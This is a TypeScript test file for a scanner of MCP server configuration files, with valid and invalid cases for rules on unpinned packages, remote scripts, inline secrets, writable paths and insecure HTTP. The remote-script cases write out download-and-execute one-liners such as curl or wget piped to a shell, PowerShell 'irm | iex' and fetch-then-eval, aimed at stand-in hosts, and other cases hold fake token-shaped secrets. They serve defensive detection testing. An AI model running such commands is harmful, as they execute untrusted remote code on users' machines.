// RuleTester-style cases for the config rules: each case is a Claude Desktop style config whose
// servers are checked; `invalid` cases assert the rule, the line and the severity.

import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseConfigText } from '../../../src/scan/configs/read.js';
import { CONFIG_RULES, runConfigRules } from '../../../src/scan/configs/rules/index.js';

function config(servers: Record<string, unknown>): string {
  return JSON.stringify({ mcpServers: servers }, null, 2);
}

function findingsFor(text: string, rule: string) {
  const parsed = parseConfigText(text, 'cfg.json', 'claude-desktop', 'mcpServers');
  expect(parsed.errors).toEqual([]);
  return runConfigRules(parsed.servers, { rules: [rule] });
}

/** The line of the first occurrence of `needle` in the text (1-based). */
function lineOf(text: string, needle: string): number {
  const at = text.indexOf(needle);
  if (at < 0) throw new Error(`needle not in text: ${needle}`);
  return text.slice(0, at).split('\n').length;
}

interface Case {
  name: string;
  server: Record<string, unknown>;
}
interface InvalidCase extends Case {
  /** Text on the line the finding must point at. */
  at: string;
  severity?: string;
  count?: number;
}

function ruleCases(rule: string, valid: Case[], invalid: InvalidCase[]): void {
  describe(rule, () => {
    for (const c of valid) {
      it(`valid: ${c.name}`, () => {
        expect(findingsFor(config({ s: c.server }), rule)).toEqual([]);
      });
    }
    for (const c of invalid) {
      it(`invalid: ${c.name}`, () => {
        const text = config({ s: c.server });
        const found = findingsFor(text, rule);
        expect(found.length).toBe(c.count ?? 1);
        expect(found[0]!.rule).toBe(rule);
        expect(found[0]!.line).toBe(lineOf(text, c.at));
        expect(found[0]!.file).toBe('cfg.json');
        if (c.severity) expect(found[0]!.severity).toBe(c.severity);
      });
    }
  });
}

ruleCases(
  'config-unpinned-package',
  [
    {
      name: 'npx with an exact version',
      server: {
        command: 'npx',
        args: ['-y', '@modelcontextprotocol/server-filesystem@2025.8.21', '/home/me'],
      },
    },
    {
      name: 'scoped package with prerelease',
      server: { command: 'npx', args: ['-y', '@acme/mcp@1.2.3-beta.1'] },
    },
    { name: 'uvx with ==', server: { command: 'uvx', args: ['mcp-server-git==0.6.2', '--repository', '.'] } },
    {
      name: 'uvx --from pinned',
      server: { command: 'uvx', args: ['--from', 'mcp-server-fetch==2025.4.7', 'mcp-server-fetch'] },
    },
    { name: 'uvx with @version', server: { command: 'uvx', args: ['mcp-server-time@0.6.2'] } },
    {
      name: 'pipx run --spec pinned',
      server: { command: 'pipx', args: ['run', '--spec', 'mcp-proxy==0.8.0', 'mcp-proxy'] },
    },
    {
      name: 'docker image by digest',
      server: {
        command: 'docker',
        args: [
          'run',
          '-i',
          '--rm',
          '-e',
          'TOKEN',
          `ghcr.io/github/github-mcp-server@sha256:${'a'.repeat(64)}`,
        ],
      },
    },
    {
      name: 'docker image with a version tag',
      server: { command: 'docker', args: ['run', '-i', '--rm', '--name', 'x', 'mcp/fetch:1.4.0'] },
    },
    {
      name: 'local script with node',
      server: { command: 'node', args: ['/home/me/servers/weather/index.js'] },
    },
    {
      name: 'git commit pin',
      server: {
        command: 'uvx',
        args: ['--from', `git+https://github.com/org/repo@${'0123456789abcdef'.repeat(2)}01234567`, 'srv'],
      },
    },
    { name: 'npx of a local folder', server: { command: 'npx', args: ['./my-server'] } },
    { name: 'url server', server: { url: 'https://mcp.example.com/mcp' } },
  ],
  [
    {
      name: 'npx -y without version',
      server: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-github'] },
      at: '"@modelcontextprotocol/server-github"',
      severity: 'medium',
    },
    {
      name: '@latest',
      server: { command: 'npx', args: ['@playwright/mcp@latest'] },
      at: '@playwright/mcp@latest',
    },
    {
      name: 'caret range',
      server: { command: 'npx', args: ['-y', 'some-mcp@^1.2.0'] },
      at: 'some-mcp@^1.2.0',
    },
    {
      name: 'npx --package',
      server: { command: 'npx', args: ['--yes', '--package', 'mcp-pkg', 'mcp-bin'] },
      at: '"mcp-pkg"',
    },
    {
      name: 'uvx without version',
      server: { command: 'uvx', args: ['mcp-server-fetch'] },
      at: '"mcp-server-fetch"',
    },
    {
      name: 'uvx --from git without commit',
      server: { command: 'uvx', args: ['--from', 'git+https://github.com/org/repo', 'srv'] },
      at: 'git+https',
    },
    { name: 'uvx >= range', server: { command: 'uvx', args: ['--from', 'pkg>=1.0', 'pkg'] }, at: 'pkg>=1.0' },
    { name: 'uvx ~= is a range', server: { command: 'uvx', args: ['pkg~=1.0'] }, at: 'pkg~=1.0' },
    { name: 'pipx run', server: { command: 'pipx', args: ['run', 'mcp-proxy'] }, at: '"mcp-proxy"' },
    { name: 'bunx', server: { command: 'bunx', args: ['mcp-thing'] }, at: '"mcp-thing"' },
    { name: 'pnpm dlx', server: { command: 'pnpm', args: ['dlx', 'mcp-thing@next'] }, at: 'mcp-thing@next' },
    { name: 'npm exec', server: { command: 'npm', args: ['exec', '--yes', 'mcp-thing'] }, at: '"mcp-thing"' },
    {
      name: 'Windows cmd /c wrapper',
      server: { command: 'cmd', args: ['/c', 'npx', '-y', 'server-x'] },
      at: '"server-x"',
    },
    {
      name: 'inside sh -c',
      server: { command: 'sh', args: ['-c', 'cd /srv && npx -y server-y'] },
      at: 'npx -y server-y',
    },
    {
      name: 'docker without tag',
      server: {
        command: 'docker',
        args: ['run', '-i', '--rm', '-e', 'GITHUB_TOKEN', 'ghcr.io/github/github-mcp-server'],
      },
      at: 'ghcr.io/github',
    },
    {
      name: 'docker :latest',
      server: { command: 'docker', args: ['run', '-i', 'mcp/fetch:latest'] },
      at: 'mcp/fetch:latest',
    },
    {
      name: 'npx.cmd full path on Windows',
      server: { command: 'C:\\Program Files\\nodejs\\npx.cmd', args: ['-y', 'srv'] },
      at: '"srv"',
    },
    {
      name: 'whole command line in one string',
      server: { command: 'npx -y server-z' },
      at: 'npx -y server-z',
    },
  ],
);

ruleCases(
  'config-remote-script',
  [
    {
      name: 'curl used as a health check, not piped to a shell',
      server: {
        command: 'sh',
        args: ['-c', 'curl -fsS http://localhost:8080/health > /dev/null; exec node server.js'],
      },
    },
    {
      name: 'piping between ordinary tools',
      server: { command: 'bash', args: ['-c', 'cat config.json | node server.js'] },
    },
    { name: 'plain npx', server: { command: 'npx', args: ['-y', 'a@1.0.0'] } },
    {
      name: 'a word that contains curl',
      server: { command: 'bash', args: ['-c', 'echo $(curlew --version) | tee out'] },
    },
  ],
  [
    {
      name: 'curl | sh',
      server: { command: 'sh', args: ['-c', 'curl -fsSL https://get.example.com/install.sh | sh'] },
      at: 'curl -fsSL',
      severity: 'high',
    },
    {
      name: 'wget -O- | bash',
      server: {
        command: 'bash',
        args: ['-lc', 'wget -qO- https://x.example/s.sh | sudo bash -s -- --serve'],
      },
      at: 'wget -qO-',
    },
    {
      name: 'bash -c "$(curl ...)"',
      server: { command: 'bash', args: ['-c', '$(curl -fsSL https://x.example/run.sh)'] },
      at: '$(curl',
    },
    {
      name: 'bash <(curl ...)',
      server: { command: 'bash', args: ['<(curl -s https://x.example/a.sh)'] },
      at: '<(curl',
    },
    {
      name: 'powershell irm | iex',
      server: { command: 'powershell', args: ['-Command', 'irm https://x.example/i.ps1 | iex'] },
      at: 'irm https',
    },
    {
      name: 'powershell DownloadString',
      server: {
        command: 'pwsh',
        args: ['-c', "iex (New-Object Net.WebClient).DownloadString('https://x.example/a')"],
      },
      at: 'DownloadString',
    },
    {
      name: 'curl | python3',
      server: { command: 'sh', args: ['-c', 'curl -s https://x.example/srv.py | python3 -'] },
      at: 'curl -s',
    },
    {
      name: 'node -e fetch then eval',
      server: {
        command: 'node',
        args: ['-e', "fetch('https://x.example/s.js').then(r=>r.text()).then(eval)"],
      },
      at: 'fetch(',
    },
    {
      name: 'one-string command',
      server: { command: 'curl -fsSL https://x.example/mcp.sh | bash' },
      at: 'curl -fsSL',
    },
  ],
);

/** `${input:x}` as VS Code writes it, built so the literal is not a template mistake. */
const ref = (s: string): string => `$\{${s}}`;
const GH = `ghp_${'A1b2C3d4E5'.repeat(3)}abcdef`;
ruleCases(
  'config-inline-secret',
  [
    {
      name: 'env references an input',
      server: { command: 'npx', args: ['srv@1.0.0'], env: { GITHUB_TOKEN: ref('input:github_token') } },
    },
    {
      name: 'env references another variable',
      server: { command: 'npx', args: ['srv@1.0.0'], env: { API_KEY: ref('env:API_KEY'), OTHER: '$HOME' } },
    },
    {
      name: 'placeholder text',
      server: {
        command: 'npx',
        args: ['srv@1.0.0'],
        env: { BRAVE_API_KEY: 'YOUR_API_KEY_HERE', TOKEN: '<your-token>' },
      },
    },
    {
      name: 'ordinary settings',
      server: {
        command: 'node',
        args: ['s.js', '--port', '3000'],
        env: { LOG_LEVEL: 'debug', NODE_ENV: 'production', DATA_DIR: '/home/me/data' },
      },
    },
    {
      name: 'headers with an input reference',
      server: {
        url: 'https://api.example.com/mcp',
        headers: { Authorization: `Bearer ${ref('input:token')}` },
      },
    },
  ],
  [
    {
      name: 'GitHub token in env',
      server: { command: 'npx', args: ['srv@1.0.0'], env: { GITHUB_PERSONAL_ACCESS_TOKEN: GH } },
      at: '"GITHUB_PERSONAL_ACCESS_TOKEN"',
      severity: 'high',
    },
    {
      name: 'generic API key by name and shape',
      server: { command: 'npx', args: ['srv@1.0.0'], env: { BRAVE_API_KEY: 'BSAk3J9xQ2mVn8LpR4tZ7wY1' } },
      at: '"BRAVE_API_KEY"',
      severity: 'high',
    },
    {
      name: 'bearer header',
      server: {
        url: 'https://api.example.com/mcp',
        headers: { Authorization: 'Bearer 9f8e7d6c5b4a39281706aBcDeF' },
      },
      at: '"Authorization"',
      severity: 'high',
    },
    {
      name: 'token passed as an argument',
      server: {
        command: 'npx',
        args: ['-y', 'srv@1.0.0', '--api-key', `sk-ant-api03-${'x1Y2z3'.repeat(8)}`],
      },
      at: '"sk-ant-api03',
      severity: 'high',
    },
    {
      name: 'password in a URL',
      server: { url: 'https://admin:S3cr3tPassw0rd!@mcp.example.com/mcp' },
      at: '"url"',
      severity: 'high',
    },
  ],
);

ruleCases(
  'config-writable-path',
  [
    { name: 'script in the home folder', server: { command: 'node', args: ['/home/me/mcp/server.js'] } },
    {
      name: '/tmp as a data argument of a package server',
      server: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem@2025.8.21', '/tmp'] },
    },
    { name: 'python -m module', server: { command: 'python', args: ['-m', 'tmp_server'] } },
    { name: 'temporary-sounding name elsewhere', server: { command: '/opt/tmpserver/bin/run' } },
  ],
  [
    {
      name: 'node script in /tmp',
      server: { command: 'node', args: ['/tmp/mcp/server.js'] },
      at: '/tmp/mcp/server.js',
      severity: 'medium',
    },
    { name: 'binary in /var/tmp', server: { command: '/var/tmp/mcp-server' }, at: '/var/tmp/mcp-server' },
    {
      name: 'python script in Downloads',
      server: { command: 'python3', args: ['-u', '/Users/me/Downloads/server.py'] },
      at: 'Downloads/server.py',
    },
    {
      name: 'Windows Downloads',
      server: { command: 'C:\\Users\\me\\Downloads\\mcp-server.exe' },
      at: 'mcp-server.exe',
    },
    {
      name: 'Windows temp',
      server: { command: 'node', args: ['C:\\Users\\me\\AppData\\Local\\Temp\\s\\index.js'] },
      at: 'AppData',
    },
    {
      name: 'uv run --directory in /tmp',
      server: { command: 'uv', args: ['--directory', '/tmp/weather', 'run', 'weather.py'] },
      at: '/tmp/weather',
    },
    { name: 'cwd in /tmp', server: { command: 'npx', args: ['srv@1.0.0'], cwd: '/tmp/work' }, at: '"cwd"' },
    {
      name: 'node --require from /dev/shm',
      server: { command: 'node', args: ['--require', '/dev/shm/hook.js', '/home/me/s.js'] },
      at: '/dev/shm/hook.js',
    },
  ],
);

ruleCases(
  'config-insecure-transport',
  [
    { name: 'https', server: { url: 'https://mcp.example.com/mcp' } },
    { name: 'http to localhost', server: { url: 'http://localhost:3000/mcp' } },
    { name: 'http to 127.0.0.1', server: { type: 'sse', url: 'http://127.0.0.1:8931/sse' } },
    { name: 'http to [::1]', server: { url: 'http://[::1]:8080/mcp' } },
    {
      name: 'mcp-remote to https',
      server: { command: 'npx', args: ['mcp-remote@0.1.29', 'https://mcp.example.com/sse'] },
    },
  ],
  [
    {
      name: 'http to a remote host',
      server: { url: 'http://mcp.example.com/mcp' },
      at: '"url"',
      severity: 'medium',
    },
    {
      name: 'http to a LAN address with a header',
      server: { type: 'http', url: 'http://192.168.1.20:8000/mcp', headers: { 'X-Team': 'a' } },
      at: '"url"',
    },
    {
      name: 'mcp-remote to http',
      server: { command: 'npx', args: ['mcp-remote@0.1.29', 'http://mcp.example.com/sse'] },
      at: 'http://mcp.example.com/sse',
    },
  ],
);

describe('config rule metadata', () => {
  it('every rule has an id, severity, description and a docs page under docs/rules', () => {
    for (const rule of CONFIG_RULES) {
      expect(rule.id).toMatch(/^config-[a-z-]+$/);
      expect(rule.meta.docs).toBe(`docs/rules/${rule.id}.md`);
      expect(rule.meta.description.length).toBeGreaterThan(20);
    }
  });

  it('finding ids are stable across runs and differ between servers', () => {
    const text = config({
      a: { command: 'npx', args: ['-y', 'x'] },
      b: { command: 'npx', args: ['-y', 'x'] },
    });
    const one = findingsFor(text, 'config-unpinned-package');
    const two = findingsFor(text, 'config-unpinned-package');
    expect(one.map((f) => f.id)).toEqual(two.map((f) => f.id));
    expect(new Set(one.map((f) => f.id)).size).toBe(2);
  });

  it('never puts a secret in clear into a message or evidence', () => {
    const text = config({ s: { command: 'npx', args: ['srv@1.0.0'], env: { GITHUB_TOKEN: GH } } });
    const [f] = findingsFor(text, 'config-inline-secret');
    expect(JSON.stringify(f)).not.toContain(GH);
    expect(f!.message).toContain('github-token');
  });
});

describe('hard negatives: an honest, pinned config', () => {
  it('raises nothing on common, carefully written server entries', () => {
    const text = readFileSync(join(import.meta.dirname, '../../fixtures/configs/honest-pinned.json'), 'utf8');
    const parsed = parseConfigText(text, 'honest.json', 'claude-desktop', 'mcpServers');
    expect(parsed.errors).toEqual([]);
    expect(parsed.servers).toHaveLength(15);
    expect(runConfigRules(parsed.servers).map((f) => `${f.rule}: ${f.message}`)).toEqual([]);
  });
});
